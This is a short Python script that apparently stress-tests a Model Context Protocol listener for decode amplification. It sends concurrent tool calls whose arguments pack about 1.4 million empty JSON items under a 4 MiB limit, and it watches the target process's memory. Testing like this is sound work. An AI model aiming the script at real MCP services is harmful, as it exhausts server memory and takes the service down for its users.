#!/usr/bin/env python3
"""mcpamp: decode amplification on an MCP listener (daemon --mcp-listen or
the proxy's). One session; CONC concurrent tools/call of TOOL whose
arguments hold ~1.4M empty objects (or strings) in a list, just under 4 MiB.
usage: mcpamp.py HOST:PORT PID TOKEN TOOL ARG(messages|texts|x) CONC ROUNDS"""
import sys, json, threading, time, http.client, collections
addr, pid, tok, tool, arg, conc, rounds = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4], sys.argv[5], int(sys.argv[6]), int(sys.argv[7])
host, port = addr.split(':')
def rss():
    d = {}
    for l in open(f'/proc/{pid}/status'):
        if l.startswith(('VmRSS', 'VmHWM')):
            k, v = l.split(':'); d[k] = int(v.split()[0]) // 1024
    return d
H = {'Content-Type': 'application/json', 'Accept': 'application/json, text/event-stream', 'Authorization': 'Bearer ' + tok}
c = http.client.HTTPConnection(host, int(port), timeout=60)
c.request('POST', '/mcp', json.dumps({'jsonrpc': '2.0', 'id': 1, 'method': 'initialize', 'params': {'protocolVersion': '2025-06-18', 'capabilities': {}, 'clientInfo': {'name': 'amp', 'version': '0'}}}), H)
r = c.getresponse(); r.read(); sid = r.getheader('Mcp-Session-Id')
H2 = dict(H, **{'Mcp-Session-Id': sid, 'MCP-Protocol-Version': '2025-06-18'})
c.request('POST', '/mcp', json.dumps({'jsonrpc': '2.0', 'method': 'notifications/initialized'}), H2); c.getresponse().read()
LIMIT = 4 * 1024 * 1024 - 200
n = LIMIT // 3
item = b'{}' if arg != 'texts' else b'""'
head = b'{"jsonrpc":"2.0","id":7,"method":"tools/call","params":{"name":"%s","arguments":{"query":"x","%s":[' % (tool.encode(), arg.encode())
body = head + b','.join([item] * n) + b']}}}'
codes = collections.Counter()
ids = iter(range(100, 10**6))
def one():
    for _ in range(rounds):
        try:
            cc = http.client.HTTPConnection(host, int(port), timeout=120)
            cc.request('POST', '/mcp', body.replace(b'"id":7,', b'"id":%d,' % next(ids), 1), H2)
            rr = cc.getresponse(); d = rr.read()
            codes[(rr.status, d[:140])] += 1
        except Exception as e:
            codes[repr(e)[:80]] += 1
peak = [0]; stop = False
def mon():
    while not stop:
        peak[0] = max(peak[0], rss()['VmRSS']); time.sleep(0.05)
print('body', len(body), 'items', n, 'before', rss(), flush=True)
m = threading.Thread(target=mon); m.start(); t0 = time.time()
ts = [threading.Thread(target=one) for _ in range(conc)]
[t.start() for t in ts]; [t.join() for t in ts]
stop = True; m.join()
print('elapsed %.1fs' % (time.time() - t0), 'peak VmRSS MB', peak[0], 'after', rss())
for k, v in codes.items(): print(v, k)
